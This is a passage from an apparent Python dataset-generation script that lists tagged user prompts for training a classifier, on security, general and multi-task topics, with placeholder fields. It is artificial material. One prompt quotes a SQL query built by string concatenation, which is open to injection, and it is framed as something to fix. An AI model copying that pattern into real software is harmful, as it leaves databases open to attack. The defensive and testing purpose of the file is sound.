sentiment s l p | Is this extortion email calm and businesslike or openly threatening? "We have your files. We are professionals. Pay within 72 hours and you will receive the decryption key and our assurance that the data is deleted. Contact the chat link below."

# password manager rollout
qa s l p | how does a password manager keep my passwords safe if the company behind it gets hacked?
reasoning s m i | Bitwarden or 1Password for 60 staff who are mostly on Macs, with a few shared team logins? Budget isn't the main issue.
draft s l i | Write the announcement for our password manager rollout next Monday: why we're doing it, how to install it, and that shared spreadsheets of passwords must be deleted by the 30th.
sentiment s l i | What's the mood in these survey comments about the rollout? "Finally!" / "Another app to log into, great." / "Setup took two minutes, love the browser autofill." / "Why does IT need to see my passwords?"
creative g l p | a catchy poster line for the password manager rollout, something that makes people smile
translate s l i | Translate the rollout instructions into Polish for the warehouse team: "Install the app from the company portal, create a master password of at least four random words, and never share it with anyone, including IT."

# travel Wi-Fi and VPN
qa s l p | what does a VPN actually protect you from on hotel Wi-Fi?
reasoning s m p | Is it safe to check my bank account on airport Wi-Fi from my phone if the site shows the padlock?
code s l p | WireGuard client config for a laptop that should route all traffic through the office gateway, with DNS through the tunnel

# browser extensions and shadow IT
qa s l p | can a browser extension read the passwords I type into websites?
classify s l i | Allow, review or block for company laptops: Grammarly, a free VPN extension with 50 reviews, the 1Password extension, "PDF Converter Pro" from an unknown publisher, uBlock Origin
reasoning s m i | Marketing has been using a free AI note-taker that joins every Teams call and uploads recordings to its own cloud. Ban it, buy an approved one, or leave it?
draft s l i | two-paragraph message to marketing explaining why the unapproved note-taker has been blocked and what they can use instead
extract s l i | From this OAuth consent screen text, list the permissions the app is asking for: "NoteZap wants to: read, compose and send emails from your account; see and download all your OneDrive files; read your calendar; maintain access to data you have given it access to."

# incident response
draft s h i | Write an incident response plan for a 300-person company: roles and contacts, severity levels, first-hour checklist, evidence handling, communication templates, regulator notification and post-incident review.
classify s l i | Which severity (1 to 4) would you give each: a lost encrypted laptop, ransomware on the file server, a phishing email reported but not clicked, the CEO's mailbox forwarding all mail to an outside address

# secure code
code s l p | regex that catches lookalikes of acme.com such as acme-support.com, acrne.com and acme.com.evil.io
code s l p | review this Flask login route for security problems {FLASK_CODE}
code s l p | is this open to SQL injection? fix it: query = "SELECT * FROM users WHERE email = '" + email + "'"
qa s l p | what's the difference between hashing and encryption?
code s l p | nginx config lines to add HSTS, a basic CSP and X-Frame-Options to my site

# PII
classify s l r | Our DLP tool flagged this chat message. Real card leak or false positive? "sure, use my card {CARD2} exp 09/27 for the hotel"
draft s l r | write an internal incident note: a customer pasted their full card number {CARD4} into a support chat on 10 June; the transcript has been purged from the chat tool and the agent notified.
classify s l r | Which of these fields must be masked in our application logs: full name, FIN {FIN1}, order total, session ID, last four card digits, email address?
summarize s l c | one-line summary of this alert: "Impossible travel for {E_LOGIN}: sign-in from {IP8} (London) then {IP9} (Lagos) 45 minutes apart."

# multi-task
classify s l c => Is this phishing ;; extract s l c => if so, list the domains and links to block | Is this phishing, and if so, list the domains and links to block? {PHISH2}
qa s l p => what is a CSRF token ;; code s l p => show me how to add one to a Flask form | what is a CSRF token, and show me how to add one to a Flask form
summarize s l c => Summarise the log ;; classify s l c => then tell me if it's an attack or background noise | Summarise the log, then tell me if it's an attack or background noise. {FW_LOG}
reasoning s m i => should we force a password reset for everyone or only for the finance team ;; draft s l i => draft the announcement either way | After last week's phishing incident (two accounts compromised, both now locked), should we force a password reset for everyone or only for the finance team? Please draft the announcement either way.
extract s l c => 1. pull the source IP and the destination ports ;; math s l c => 2. work out the denied connections per second ;; classify s l c => 3. label it low, medium or high severity | 1. pull the source IP and the destination ports 2. work out the denied connections per second 3. label it low, medium or high severity {FW_LOG}
translate s l p => Translate "two-factor authentication" and "one-time passcode" into Japanese ;; qa s l p => are SMS codes considered weak now? | Translate "two-factor authentication" and "one-time passcode" into Japanese. Also, are SMS codes considered weak now?
code s l p => Write a bash command that lists listening ports on this Linux box ;; qa s l p => explain what 22, 80, 443 and 3389 are normally used for | Write a bash command that lists listening ports on this Linux box and explain what 22, 80, 443 and 3389 are normally used for.
qa s l p => 1) what's the minimum for Cyber Essentials ;; classify s l i => 2) which parts of our setup would fail it ;; draft s h i => 3) draft a one-page IT security policy we can give staff | We're a 12-person accounting firm. Everyone works on their own laptops (mix of Windows 10 and 11, two still on Windows 10 with updates off), we share one admin login for the practice software, email is Microsoft 365 without MFA, and backups go to a USB drive the office manager takes home on Fridays. Our insurer wants Cyber Essentials. 1) what's the minimum for Cyber Essentials 2) which parts of our setup would fail it 3) draft a one-page IT security policy we can give staff
sentiment s l i => How worried does the board sound in these minutes ;; summarize s l i => and summarise their security asks in bullets | How worried does the board sound in these minutes, and summarise their security asks in bullets. {BOARD_MINUTES}
classify s l c => which of these login events are suspicious ;; draft s l c => write a short message to the user asking if it was them | which of these login events are suspicious? Then write a short message to the user asking if it was them. {LOGIN_EVENTS}
qa s l p => what's a zero-day ;; reasoning s m p => should a 10-person business worry about them or focus on basics? | what's a zero-day and should a 10-person business worry about them or focus on basics?
extract s l r => Give me the leaked fields ;; reasoning l m r => which of them mean we must notify the regulator and the customers? | This is from a breach forum and looks like our customer data. Give me the leaked fields, and which of them mean we must notify the regulator and the customers? {LEAK_SAMPLE}
code s l p => Write a Python function that checks a password is at least 12 characters and not in a list of common passwords ;; qa s l p => Why do NIST guidelines no longer require regular password changes? | Write a Python function that checks a password is at least 12 characters and not in a list of common passwords. Why do NIST guidelines no longer require regular password changes?

# hard negatives
!extract s l i | List the build numbers and timestamps: "agent build v4.2.0.17 deployed 2025-06-03 at 02:14:09, rolled back to 4.1.9.250 at 02:31:44"
!summarize s l i | one line: "Scanner 7.3.1.4 found 0 critical issues on host group HG-22; the previous run (7.3.0.9) flagged 2, both fixed by patch KB5034441."
!qa s l p | is 10.0.0.256 a valid IPv4 address?
!reasoning s m i | Our SIEM shows MAC 00:1a:2b:3c:4d:5e authenticating on two switches at 09:14:22. Spoofing, or just a laptop moving between docks?
"""

GENERAL = r"""
# meeting notes
summarize g l i | tl;dr of these notes {MEETING_NOTES}
extract g l i | pull out the action items with owner and deadline {MEETING_NOTES}
sentiment g l i | how is the team feeling overall, going by these notes? {MEETING_NOTES}
draft g l i | Write the follow-up email to the attendees with the decisions and actions. {MEETING_NOTES}
classify g l i | Tag each agenda item as decision, action or FYI. {MEETING_NOTES}
translate g l i | translate the action items into Spanish for Ines's team {MEETING_NOTES}

# product reviews
sentiment g l p | Score each review from 1 (very negative) to 5 (very positive). {REVIEWS}
classify g l p | tag each review by topic: battery, screen, delivery, build quality, service, camera (more than one allowed) {REVIEWS}
summarize g l p | what do buyers like and dislike, in two lines {REVIEWS}
draft g l p | reply publicly to review B, apologising and offering to help {REVIEWS}
extract g l p | list every product part mentioned in these reviews {REVIEWS}
creative g l p | turn review A into a cheesy 10-second radio ad {REVIEWS}

# code and tech
code g l p | why does this crash and how do I fix it? {BUGGY_CODE}
qa g l p | what's the difference between a list and a tuple in Python?
reasoning g m p | For a small booking app with about 2,000 users and mostly relational data, Postgres or MongoDB? We know neither well.
code g l p | regex for UK postcodes
code g l p | bash one-liner to find files bigger than 1 GB under /data and print their sizes
code g l p | Excel: pull the first name out of "Surname, First Name" in A2
code g l p | what does this do? [x for x in items if x not in seen and not seen.add(x)]
code g l p | git: undo my last commit but keep the changes staged
qa g l p | what is an API, for someone non-technical?

# trip and social plans
reasoning g m p | Plan three days in Lisbon for two people who hate queues, love food and want one beach day. Rough day-by-day please.
math g l p | 7 of us at dinner, bill €284.50, we want to add a 10% tip and split it evenly - how much each?
draft g l p | Write an invitation email for our team summer picnic on Friday 18 July at Victoria Park: bring a blanket, food provided.
creative g l p | a two-minute best man's toast for my brother Tom, who is famously late to everything and met Ana on a delayed train
translate g l p | how do I say "we'd like a table for four by the window" in Portuguese?
chat g l p | have you ever been to Lisbon? lol
qa g l p | do I need a visa for Portugal with a UK passport for a 5-day holiday?

# chat
chat g l p | hi there!
chat g l p | good morning, how's it going?
chat g l p | are you a real person or a bot?
chat g l p | what can you actually help me with?
chat g l p | do you remember what we talked about yesterday?
chat g l p | thank you so much, that was exactly what I needed
chat g l p | you're funnier than my coworkers tbh
chat g l p | which model are you running on?
chat g l p | Can you read PDFs if I upload them, or only plain text?
chat g l p | sorry for all the questions today
chat g l p | ok bye, have a good weekend
chat g l p | lol that poem was terrible but I love it
chat g l p | Do you keep what I type here after the chat ends?
chat g l p | cheers mate
chat g l p | Are you allowed to give actual legal advice, or only general information?
chat g l p | can you speak Spanish too?
chat g l p | what should I call you?
chat g l p | Good evening. I just wanted to say the answers today have been very helpful.
chat g l p | how are you this fine Friday?
chat g l p | do you ever get tired of answering questions?
chat g l p | hello again, it's me with the spreadsheet problem

# puzzles, arithmetic, facts
reasoning g m p | A bat and a ball cost $1.10 in total. The bat costs $1.00 more than the ball. How much is the ball? Explain why the obvious answer is wrong.
reasoning g m p | Three switches outside a closed room, one bulb inside, and you can go in once. How do you find which switch controls the bulb?
math g l p | what's 17.5% of 2,360?
math g l p | convert 5 miles to km
math g l p | A recipe for 4 needs 350 g flour and 3 eggs. How much for 10 people?
qa g l p | why is the sky blue?
qa g l p | who wrote "One Hundred Years of Solitude"?
math g l p | mean and median of 12, 15, 15, 18, 22, 31, 40

# creative
creative g l p | write a haiku about Monday morning stand-ups
creative g l p | five name ideas for a sourdough bakery run by two retired engineers
creative g l p | a 150-word bedtime story about a hedgehog who's scared of the dark
creative g l p | slogan for our office recycling push, max 8 words
creative g l p | a joke about spreadsheets for my accountant friend's birthday card
creative g l p | Write a 100-word piece of flash fiction that starts with "The lift stopped between floors."
creative g l p | a sonnet about the office printer that only works when IT is watching
creative g l p | team names for our pub quiz, we're all nurses on night shift
creative g l p | tagline for a dog-walking business called Muddy Paws

# translate and library notice
translate g l p | translate "the meeting has been moved to Thursday at 3pm" into French and Dutch
translate g l p | ¿cómo se dice "out of office" en inglés de forma natural?
translate g l p | Please translate into English: "Wir freuen uns, Ihnen mitzuteilen, dass Ihre Bewerbung in die engere Auswahl gekommen ist."
summarize g l p | Summarise this notice in two sentences for the parish newsletter. {LIBRARY}
extract g l p | When does it close, where is the pop-up branch and on which days, and when is the consultation? {LIBRARY}
translate g l p | Translate this notice into Welsh for the bilingual noticeboard. {LIBRARY}
sentiment g l p | is the tone of this notice upbeat, neutral or apologetic? {LIBRARY}
draft g l p | Write a short Facebook post for the library page announcing the closure and the pop-up branch. {LIBRARY}

# hiring
draft g l i | Write a job ad for a junior data analyst, hybrid in Manchester, £30-34k, SQL and Excel essential.
classify g l i | interview, maybe or no for the junior analyst role: A) maths graduate, SQL course, no work experience; B) 3 years as a retail supervisor, self-taught Excel; C) data apprentice, 1 year of SQL and Power BI; D) PhD in history, wants a career change, no SQL
reasoning g m i | We've got two strong finalists for the analyst job: one is stronger technically, the other much better with stakeholders. We're a team of three. Who would you pick and why?
sentiment g l i | how excited does this candidate sound about the role? "Thanks for the offer. I'll need a few days to think about it, as I have another process ongoing."

# PII
extract g l c | Pull every name, email and phone number out of this: {CARPOOL}
draft g l c | Write a welcome email to our new developer {P_DEV} and cc his buddy {P_C2} at {E_C2}, with first-day logistics: 9:30 at reception, laptop pickup, lunch with the team.
extract g l r | From this gym sign-up form, give me the name, NRIC and emergency number: "Name: {P_GYM} / NRIC: {NRIC1} / Emergency: {PH_SG} / Membership: off-peak"

# multi-task
summarize g l i => Summarise this thread ;; draft g l i => draft my reply saying I can do Thursday but not at 2pm | Summarise this thread and draft my reply saying I can do Thursday but not at 2pm. {THREAD}
translate g l p => Translate this into Japanese ;; creative g l p => then write a haiku in English about the same idea | Translate this into Japanese, then write a haiku in English about the same idea: "The first snow fell quietly on the empty station."
code g l p => write a Python function that removes duplicates from a list but keeps the order ;; qa g l p => what's the difference between a set and a dict? | write a Python function that removes duplicates from a list but keeps the order. also, what's the difference between a set and a dict?
sentiment g l p => Is this review positive or negative ;; extract g l p => what features does it mention? | "The coffee machine heats up in seconds and the milk frother is great, but it's loud and the water tank is tiny." Is this review positive or negative, and what features does it mention?
creative g l p => Write a limerick about our office coffee machine ;; translate g l p => then translate it into French, keeping the rhyme if you can | Write a limerick about our office coffee machine, then translate it into French, keeping the rhyme if you can.
classify g l i => label each ticket as bug, feature request or question ;; summarize g l i => give me a one-line summary of the bugs | label each ticket as bug, feature request or question, and give me a one-line summary of the bugs {TICKETS}
qa g l p => Who invented the World Wide Web ;; qa g l p => in what year? | Who invented the World Wide Web, and in what year?
chat g l p => Hey, thanks for earlier! ;; draft g l p => Could you write a short thank-you note to my neighbour for watering my plants while I was away? | Hey, thanks for earlier! Could you write a short thank-you note to my neighbour for watering my plants while I was away?
reasoning g m p => Should I learn Python or JavaScript first as a designer ;; creative g l p => write me a one-line motto to stick on my monitor | Should I learn Python or JavaScript first as a designer? And write me a one-line motto to stick on my monitor.
math g l p => 1) how many cupcakes should we bake ;; draft g l p => 2) write the text for the poster ;; creative g l p => 3) think of a catchy name for the sale | Our school is doing a bake sale on 12 October to raise money for new library books. Last year about 180 people came, roughly two thirds bought something and people bought 2 cakes each on average. We want about 15% spare in case it's busier. We sell cupcakes at £1.50 and want to raise at least £500. 1) how many cupcakes should we bake 2) write the text for the poster 3) think of a catchy name for the sale
extract g l c => List everyone's name, email and phone ;; draft g l c => then write a group email confirming who drives whom | List everyone's name, email and phone, then write a group email confirming who drives whom. {CARPOOL}
summarize g l p => Summarise this article in three bullets ;; sentiment g l p => tell me whether the author is for or against the bike lanes | Summarise this article in three bullets and tell me whether the author is for or against the bike lanes. {ARTICLE}
translate g l p => how do I say "happy birthday, grandma" in Korean ;; creative g l p => write a short birthday poem for her in English | how do I say "happy birthday, grandma" in Korean? also write a short birthday poem for her in English
math g l p => how many hours did I work between 08:45 and 17:20 with a 40-minute lunch ;; draft g l i => write the one-line timesheet note for today | how many hours did I work between 08:45 and 17:20 with a 40-minute lunch, then write the one-line timesheet note for today (client workshop prep and the Henley call)
qa g l p => what's the difference between a CV and a résumé ;; draft g l p => write me a three-sentence personal statement for a CV | what's the difference between a CV and a résumé? write me a three-sentence personal statement for a CV - I'm a primary teacher moving into learning design.

# hard negatives
!code g l p | regex that matches version strings like 10.2.0.114 and 3.1.4.1 but not dates like 2025.06.01
!classify g l p | Which of these are phone numbers and which are product or order codes: 2025-0614-88, SKU 4411-2093-7720, tracking 1Z999AA10123456784, employee ID E204418?
!sentiment g l p | Is this customer happy? "Order #55102948 arrived on 12/06/2025, two days early, ticket INC0048812 can be closed. Great job!"
!translate f l p | translate into Dutch: "The transfer to IBAN {BADIBAN2} was returned because the account number is invalid."
!extract g l p | give me the ISBN and the page count: "ISBN 978-0-14-303943-3, 417 pages, paperback, printed 2006"
"""

_BLOCKS = (FINANCE, LEGAL, MEDICAL, SECURITY, GENERAL)


def _lines(block: str) -> str:
    """The block without the blank and ``#`` lines that separate contrast sets."""
    kept = [ln for ln in block.splitlines() if ln.strip() and not ln.startswith("#")]
    return "\n".join(kept)


def rows() -> list[Row]:
    expand = Placeholders(_MAT, _V)
    blocks = [_lines(b) for b in _BLOCKS]
    return line_rows(blocks, prefix="diverse14", expand=expand)


def main() -> None:
    check_lookalikes(_HN)
    data = write_and_check(HERE / "train_diverse14.jsonl", rows(), scan_unmarked=True)
    words = [len(r["text"].split()) for r in data]
    print(f"  rows of 60+ words: {sum(n >= 60 for n in words)}")
    print(f"  rows of 4-10 words: {sum(4 <= n <= 10 for n in words)}")


if __name__ == "__main__":
    main()
